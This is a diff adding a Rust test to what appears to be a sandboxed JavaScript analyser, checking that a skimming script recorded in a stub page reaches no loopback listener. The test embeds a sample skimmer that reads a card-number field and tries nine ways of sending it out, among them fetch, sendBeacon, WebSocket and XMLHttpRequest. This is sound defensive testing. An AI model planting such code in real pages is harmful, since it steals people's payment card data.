@@ -370,6 +370,32 @@ mod tests {
         assert!(worth_running(&obfuscated));
     }
 
+    /// The stub page has senders that only record: a script that tries every way out
+    /// reaches no socket (a listener on loopback sees no connection).
+    #[test]
+    fn nothing_leaves_the_sandbox() {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let url = format!(
+            "http://127.0.0.1:{}/c",
+            listener.local_addr().unwrap().port()
+        );
+        let src = format!(
+            r##"var u = "{url}", n = document.querySelector("#cc_number").value;
+            fetch(u + "?f=" + n); navigator.sendBeacon(u, n); new Image().src = u + "?i=" + n;
+            var x = new XMLHttpRequest(); x.open("POST", u); x.send(n);
+            new WebSocket("ws" + u.slice(4)).send(n); document.write('<img src="' + u + '">');
+            location.href = u; window.open(u); import(u).catch(function () {{}});"##
+        );
+        let obs = observe(&src, limits()).unwrap();
+        assert!(obs.sends.len() >= 7, "{:?}", obs.sends);
+        std::thread::sleep(std::time::Duration::from_millis(100));
+        assert!(
+            matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+            "a connection reached the loopback listener"
+        );
+    }
+
     #[test]
     fn the_stub_page_records_a_flow_and_sends_nothing() {
         let src = r#"
